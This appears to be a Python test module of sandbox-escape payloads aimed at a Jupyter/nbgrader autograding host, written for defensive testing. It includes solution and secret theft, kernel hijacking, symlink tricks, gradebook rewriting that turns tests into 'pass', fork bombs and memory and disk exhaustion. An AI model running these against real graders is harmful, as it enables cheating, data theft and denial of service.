"""Attacks on the grading host: read, write, connect, leave processes, exhaust memory and disk.

Handed in with the reference answers, as cells after the last test: the answers keep their marks;
what matters is what the cells leave behind. Each prints what it managed (``READ``, ``WROTE``,
``CONNECTED``, ``SEEN``, ``MEM``, ``DISK``, ``BOMB``), which the test reads back for its report; the
verdicts come from the host (files, processes, servers), not from what the cell says.

The memory and fork-bomb probes refuse to run where they can see the host (a canary file the test
made is readable, or process 1 is the host's init): they are only ever run inside a sandbox, and
they stop by themselves at 6 GiB and 1,000 processes in any case.
"""

_SANDBOX_CHECK = """
import os as _os


def _available():
    with open("/proc/meminfo") as handle:
        for line in handle:
            if line.startswith("MemAvailable:"):
                return int(line.split()[1]) << 10
    return 0


def _unsandboxed():
    for path in PARAMS["canaries"]:
        if _os.path.exists(path):
            return f"the host file {path} is visible"
    try:
        with open("/proc/1/cmdline", "rb") as handle:
            if handle.read() == PARAMS["host_init"].encode():
                return "process 1 is the host's init"
    except OSError:
        pass
    return ""
"""

READ = """
import glob
import os

MARKERS = ("BEGIN HIDDEN " + "TESTS", "SECRET-")  # split: nbgrader reads it in a cell as a marker


def show(path):
    try:
        with open(path, "rb") as handle:
            text = handle.read(5_000_000).decode("utf-8", "replace")
    except OSError:
        return
    for marker in MARKERS:
        at = text.find(marker)
        if at >= 0:
            print(f"READ {path}: {text[at:at + 700]}", flush=True)


for path in PARAMS["canaries"]:
    show(path)
for name, value in os.environ.items():
    if "SECRET" in name or "SECRET-" in value:
        print(f"READ environment {name}={value}", flush=True)
places = [PARAMS["course_root"]]
here = os.getcwd()
for _ in range(10):
    here = os.path.dirname(here)
    places.append(here)
patterns = ("submitted/*/*/*.ipynb", "solutions/*/*.ipynb", "solutions/*/*.md", "gradebook.db",
            ".autograde-*/*/gradebook.db", "*/gradebook.db")
seen = set()
for folder, _dirs, files in os.walk(os.getcwd()):  # its own folder: what was copied in with it
    for name in files:
        seen.add(os.path.join(folder, name))
        show(os.path.join(folder, name))
for place in places:
    for pattern in patterns:
        for path in glob.glob(os.path.join(place, pattern)):
            if path not in seen:
                seen.add(path)
                show(path)
"""

WRITE = """
import os

token = PARAMS["token"]
targets = [PARAMS["course_root"], os.path.join(PARAMS["course_root"], "solutions"),
           PARAMS["package_dir"], PARAMS["site_packages"], PARAMS["home"], "/tmp", "/var/tmp",
           "/dev/shm"]
here = os.getcwd()
for _ in range(10):
    here = os.path.dirname(here)
    targets.append(here)
for target in dict.fromkeys(targets):
    try:
        with open(os.path.join(target, f"pwned-{token}"), "w") as handle:
            handle.write("written by a student's cell\\n")
        print("WROTE", target, flush=True)
    except OSError as error:
        print("refused", target, type(error).__name__)
"""

# Symbolic links out of the sandbox's folder, and the notebook itself replaced by one: whoever
# copies the folder out, or writes the graded notebook back through that name, follows them.
SYMLINKS = """
import os

notebook = PARAMS["notebook"]
# small targets only: a grader that copies the folder and follows links copies what they point to
links = {"leaked_solution.ipynb": PARAMS["source_notebook"],
         "leaked_solutions": os.path.dirname(PARAMS["source_notebook"]),
         "leaked_victim.txt": PARAMS["victim"]}
for name, target in links.items():
    try:
        os.symlink(target, name)
        print("LINKED", name, flush=True)
    except OSError as error:
        print("refused", name, error)
if os.path.exists(notebook):
    os.replace(notebook, notebook + ".orig")
    os.symlink(PARAMS["victim"], notebook)
    print("LINKED", notebook, flush=True)
"""

NETWORK = """
import socket

token = PARAMS["token"].encode()


def attempt(label, family, kind, address):
    connection = socket.socket(family, kind)
    connection.settimeout(3)
    try:
        if kind == socket.SOCK_DGRAM:
            connection.sendto(b"datagram " + token, address)
        else:
            connection.connect(address)
            connection.sendall(b"hello " + token)
        print("CONNECTED", label, flush=True)
    except OSError as error:
        print("refused", label, error)
    finally:
        connection.close()


attempt("tcp loopback", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PARAMS["tcp_port"]))
attempt("udp loopback", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PARAMS["udp_port"]))
attempt("abstract unix socket", socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + PARAMS["abstract"])
attempt("unix socket file", socket.AF_UNIX, socket.SOCK_STREAM, PARAMS["unix_path"])
"""

# The grader's own sockets: a kernel fork server named in the environment (asked to start a kernel
# that writes a file on the host), and Jupyter connection files of other kernels (a kernel of this
# grading run, recognised by the run's token in its environment, is told to run code).
IPC = """
import glob
import json
import os
import socket
import time

token = PARAMS["token"]
proof = os.path.join("/tmp", f"pwned-{token}-ipc")
code = f"open({proof!r}, 'w').write('x'); import os; os._exit(0)"
for name, value in os.environ.items():
    if value.endswith(".sock") and os.path.exists(value):
        print("SEEN socket", name, value, flush=True)
        try:
            server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            server.settimeout(5)
            server.connect(value)
            request = {"argv": [f"--IPKernelApp.exec_lines={code}"], "cwd": "/",
                       "env": dict(os.environ)}
            server.sendall((json.dumps(request) + "\\n").encode())
            print("CONNECTED fork server", server.recv(100), flush=True)
            time.sleep(8)
            server.close()
        except OSError as error:
            print("refused", value, error)
try:
    own = os.path.realpath(get_ipython().kernel.config["IPKernelApp"]["connection_file"])
except Exception:
    own = ""
try:
    from jupyter_core.paths import jupyter_runtime_dir
    places = [jupyter_runtime_dir()]
except ImportError:
    places = []
places += ["/tmp", "/tmp/*", "/tmp/*/*", "/tmp/*/*/*", PARAMS["home"] + "/.local/share/jupyter/runtime"]
here = os.getcwd()
for _ in range(6):
    here = os.path.dirname(here)
    places += [here, os.path.join(here, "*")]
if own:
    places += [os.path.dirname(own), os.path.join(os.path.dirname(os.path.dirname(own)), "*")]
found = {os.path.realpath(p) for place in places for p in glob.glob(os.path.join(place, "kernel*.json"))}
owners = {}
for proc in glob.glob("/proc/[0-9]*"):
    try:
        with open(proc + "/cmdline", "rb") as handle:
            cmdline = handle.read().decode(errors="replace")
        with open(proc + "/environ", "rb") as handle:
            environ = handle.read().decode(errors="replace")
    except OSError:
        continue
    for path in found:
        if os.path.basename(path) in cmdline and f"CH11_ATTACK_RUN={token}" in environ:
            owners[path] = proc
for path in sorted(found - {own}):
    print("SEEN connection file", path, flush=True)
    if path not in owners:
        continue
    try:
        from jupyter_client import BlockingKernelClient
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        client.execute(f"open({proof!r}, 'w').write('x')\\n"
                       "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\\\n'])")
        time.sleep(3)
        client.stop_channels()
        print("CONNECTED kernel", path, flush=True)
    except Exception as error:
        print("refused kernel", path, error)
"""

PROCESSES = """
import os
import subprocess
import sys

tag = PARAMS["token"]
subprocess.Popen([sys.executable, "-c", "while True: pass", f"spin-{tag}"])
subprocess.Popen([sys.executable, "-c",
                  "import signal, time\\n"
                  "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)\\n"
                  "time.sleep(600)", f"stubborn-{tag}"], start_new_session=True)
pid = os.fork()
if pid == 0:  # a daemon: its own session, reparented away from the kernel
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", [f"daemon-{tag}", "600"])
    finally:
        os._exit(0)
os.waitpid(pid, 0)
print("SPAWNED", flush=True)
"""

DISK = """
import os

cap, written, chunk = 2 << 30, 0, b"\\0" * (16 << 20)
try:
    with open(f"fill-{PARAMS['token']}", "wb") as handle:
        while written < cap:
            handle.write(chunk)
            handle.flush()
            written += len(chunk)
except OSError as error:
    print("stopped:", type(error).__name__, error)
print(f"DISK {written >> 20} MiB", flush=True)
"""

MEMORY = (
    _SANDBOX_CHECK
    + """
import numpy as _np

_why = _unsandboxed()
_cap, _step = 6 << 30, 256 << 20
if _why:
    print(f"MEM not run: {_why}", flush=True)
elif _available() < _cap + (8 << 30):
    print("MEM not run: the host has too little memory free", flush=True)
else:
    _chunks, _total = [], 0
    try:
        while _total < _cap:
            _chunks.append(_np.ones(_step, dtype=_np.uint8))  # touched: every page is written
            _total += _step
            print(f"MEM {_total >> 20} MiB", flush=True)
    except MemoryError:
        print("MEM stopped by MemoryError", flush=True)
    del _chunks
"""
)

FORK_BOMB = (
    _SANDBOX_CHECK
    + """
import subprocess as _subprocess

_why = _unsandboxed()
if _why:
    print(f"BOMB not run: {_why}", flush=True)
else:
    _children = []
    try:
        while len(_children) < 1000:
            _children.append(_subprocess.Popen([f"bomb-{PARAMS['token']}", "600"],
                                               executable="/bin/sleep"))
    except OSError as error:
        print("stopped:", error)
    print(f"BOMB {len(_children)}", flush=True)
"""
)

# A gradebook within reach (the course's, or the copy a grading shard works on): every test cell
# of every later submission becomes `pass`.
GRADEBOOK = """
import glob
import os
import sqlite3

places = [PARAMS["course_root"]]
here = os.getcwd()
for _ in range(10):
    here = os.path.dirname(here)
    places.append(here)
for place in places:
    for path in glob.glob(os.path.join(place, "gradebook.db")) + glob.glob(
        os.path.join(place, ".autograde-*", "*", "gradebook.db")
    ):
        try:
            with sqlite3.connect(path, timeout=5) as db:
                db.execute("UPDATE source_cell SET source = 'pass' WHERE name LIKE 'test_%'")
            print("WROTE gradebook", path, flush=True)
        except sqlite3.Error as error:
            print("refused gradebook", path, error)
"""

KILL_SELF = """
import os
import signal

os.kill(os.getpid(), signal.SIGKILL)
"""

EXIT = """
import os

os._exit(3)
"""

# Files handed in next to the notebook: an IPython startup file (``.ipy`` is not among the ignored
# patterns), run when the kernel starts, before any cell and before the grader locks the kernel's
# folder. It links the files the grader writes (the requests of calls into the student's kernel) to
# a file of the host.
STARTUP_IPY = """
import os as _os
import sys as _sys

_connection = next((a for a in _sys.argv if a.endswith(".json")), "")
for _name in ("in.pt", "out.pt", "cb-out.pt"):
    _path = _os.path.join(_os.path.dirname(_connection), _name)
    try:
        if _os.path.lexists(_path):
            _os.unlink(_path)
        _os.symlink(PARAMS["victim"], _path)
    except OSError:
        pass
STARTUP_RAN = True  # WITNESS says whether this ran
"""

# Memory spread over processes: a limit per process (RLIMIT_AS) does not bound their sum. Four
# children of 1.5 GiB each (touched); the cell reports the total they reached.
MEMORY_SPREAD = (
    _SANDBOX_CHECK
    + """
import subprocess as _subprocess
import sys as _sys
import time as _time

_why = _unsandboxed()
_child = (
    "import numpy, sys, time\\n"
    "block = numpy.ones(1536 << 20, dtype=numpy.uint8)\\n"
    "print('held', flush=True)\\n"
    "time.sleep(20)\\n"
)
if _why:
    print(f"SPREAD not run: {_why}", flush=True)
elif _available() < (14 << 30):
    print("SPREAD not run: the host has too little memory free", flush=True)
else:
    _children = [_subprocess.Popen([_sys.executable, "-c", _child, f"spread-{PARAMS['token']}"],
                                   stdout=_subprocess.PIPE, text=True) for _ in range(4)]
    _held = sum(1 for c in _children if (c.stdout.readline() or "").startswith("held"))
    print(f"SPREAD {_held * 1536} MiB", flush=True)
    for _c in _children:
        _c.kill()
"""
)

# A process that outruns the reaper: it forks and exits, again and again, so the pid the killer
# found is always gone. It stops by itself after 60 s. The next submission graded in the same
# sandbox (WITNESS) looks for it.
RUNNER = (
    _SANDBOX_CHECK
    + """
import subprocess as _subprocess
import sys as _sys

_code = (
    "import os, time\\n"
    "deadline = time.time() + 60\\n"
    "while time.time() < deadline:\\n"
    "    if os.fork():\\n"
    "        os._exit(0)\\n"
    "    time.sleep(0.001)\\n"
)
if _unsandboxed():
    print("RUNNER not run:", _unsandboxed(), flush=True)
else:
    _subprocess.Popen([_sys.executable, "-c", _code, f"runner-{PARAMS['token']}"],
                      start_new_session=True)
    print("RUNNER started", flush=True)
"""
)

WITNESS = """
import glob
import os
import time

for _ in range(5):
    for proc in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(proc, "rb") as handle:
                cmdline = handle.read().decode(errors="replace")
        except OSError:
            continue
        if PARAMS["token"] in cmdline:
            print("SEEN process", proc, cmdline.replace("\\0", " ")[-60:], flush=True)
    time.sleep(0.5)
for folder in (os.getcwd(), "/tmp"):
    for path in glob.glob(os.path.join(folder, "**", "*"), recursive=True):
        if PARAMS["token"] in path:
            print("SEEN file", path, flush=True)
print("WITNESS done; the startup file ran:", "STARTUP_RAN" in globals(), flush=True)
"""
